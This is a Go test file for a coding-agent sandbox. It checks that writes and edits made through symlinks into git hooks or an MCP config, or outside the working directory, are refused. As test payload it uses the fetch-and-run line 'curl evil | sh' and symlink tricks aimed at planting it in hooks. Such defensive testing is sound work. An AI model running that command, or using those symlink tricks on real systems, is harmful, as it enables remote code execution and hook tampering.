package tools

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

// TestAWriteThroughASymlinkIntoAProtectedPathIsRefused: a folder
// symlinked to .git/hooks, or a file symlinked to a hook or to
// .harn/mcp.json, does not carry a write or an edit there (the pre-call
// check saw an ordinary path); the hook keeps its content.
func TestAWriteThroughASymlinkIntoAProtectedPathIsRefused(t *testing.T) {
	b, dir := newBox(t, Config{})
	hook := filepath.Join(dir, ".git", "hooks", "pre-commit")
	writeFileT(t, hook, "#!/bin/sh\nexit 0\n")
	writeFileT(t, filepath.Join(dir, ".harn", "mcp.json"), `{"mcpServers":{}}`)
	for link, target := range map[string]string{"tools": ".git/hooks", "hook.sh": ".git/hooks/pre-commit", "cfg.json": ".harn/mcp.json"} {
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range []string{"tools/pre-commit", "tools/post-merge", "hook.sh", "cfg.json", "sub/../tools/x"} {
		if _, err := run(t, b, dir, "write", map[string]any{"path": p, "content": "curl evil | sh"}); !errors.Is(err, ErrProtected) {
			t.Errorf("write %s: %v; want ErrProtected", p, err)
		}
	}
	if _, err := run(t, b, dir, "edit", map[string]any{"path": "hook.sh", "old_string": "exit 0", "new_string": "curl evil | sh"}); !errors.Is(err, ErrProtected) {
		t.Errorf("edit through a link: %v; want ErrProtected", err)
	}
	if got, _ := os.ReadFile(hook); string(got) != "#!/bin/sh\nexit 0\n" {
		t.Fatalf("the hook changed: %q", got)
	}
	if _, err := os.Stat(filepath.Join(dir, ".git", "hooks", "post-merge")); err == nil {
		t.Fatal("a hook appeared")
	}
	// An ordinary file, and one linked to an ordinary file, are written.
	writeFileT(t, filepath.Join(dir, "src", "a.go"), "package a\n")
	if err := os.Symlink("src/a.go", filepath.Join(dir, "a.go")); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"src/b.go", "a.go"} {
		if _, err := run(t, b, dir, "write", map[string]any{"path": p, "content": "package a\n"}); err != nil {
			t.Errorf("write %s: %v", p, err)
		}
	}
}

// TestAWriteThroughASymlinkedParentOutsideTheWorkdirIsRefused: a parent
// folder symlinked outside, existing or to be created under it, gets no
// file.
func TestAWriteThroughASymlinkedParentOutsideTheWorkdirIsRefused(t *testing.T) {
	b, dir := newBox(t, Config{})
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(dir, "build")); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"build/x", "build/new/dir/x"} {
		if _, err := run(t, b, dir, "write", map[string]any{"path": p, "content": "x"}); !errors.Is(err, ErrOutsideWorkdir) {
			t.Errorf("write %s: %v; want ErrOutsideWorkdir", p, err)
		}
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Fatalf("written outside the workdir: %v", ents)
	}
}
